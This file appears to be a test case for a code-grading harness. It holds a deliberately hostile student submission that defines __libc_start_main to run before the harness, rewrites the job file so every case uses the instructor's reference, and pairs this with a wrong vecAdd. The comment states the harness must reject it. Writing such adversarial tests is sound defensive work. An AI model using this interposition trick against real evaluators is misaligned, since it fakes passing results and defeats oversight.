// Attack (symbols): define __libc_start_main, the C library function the program's entry code
// calls before main. Not main, so a blocklist naming main lets it through, yet it runs before any
// harness code: here it rewrites the job file so that every case calls the instructor's
// reference instead of the student ("reference": true), then starts the runner as usual. The
// submission's own vecAdd is wrong. Must fail: the symbol policy refuses definitions of C
// library names (forbidden_symbol), and the student's runner has no reference to call anyway.
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>
#include <dlfcn.h>

#include "interface.cuh"

// Every `"reference": false` of the job file at `path` becomes true (C stdio only: this runs
// before the program's own initialisation).
static void callReferenceEverywhere(const char* path) {
  static char job[1 << 20];
  FILE* in = std::fopen(path, "rb");
  if (!in) return;
  size_t size = std::fread(job, 1, sizeof job - 1, in);
  std::fclose(in);
  job[size] = '\0';
  const char no[] = "\"reference\": false";
  std::string text(job, size);
  for (size_t at = text.find(no); at != std::string::npos; at = text.find(no, at))
    text.replace(at, sizeof no - 1, "\"reference\": true");
  if (FILE* out = std::fopen(path, "wb")) {
    std::fwrite(text.data(), 1, text.size(), out);
    std::fclose(out);
  }
}

using StartMain = int (*)(int (*)(int, char**, char**), int, char**, void (*)(), void (*)(), void (*)(),
                          void*);

extern "C" int __libc_start_main(int (*main)(int, char**, char**), int argc, char** argv, void (*init)(),
                                 void (*fini)(), void (*rtld_fini)(), void* stack_end) {
  if (argc == 2) callReferenceEverywhere(argv[1]);
  const auto real = reinterpret_cast<StartMain>(dlsym(RTLD_NEXT, "__libc_start_main"));
  return real(main, argc, argv, init, fini, rtld_fini, stack_end);
}

void vecAdd(const float* h_A, const float* h_B, float* h_C, int n) {
  for (int i = 0; i < n; ++i) h_C[i] = 0.0f;
}
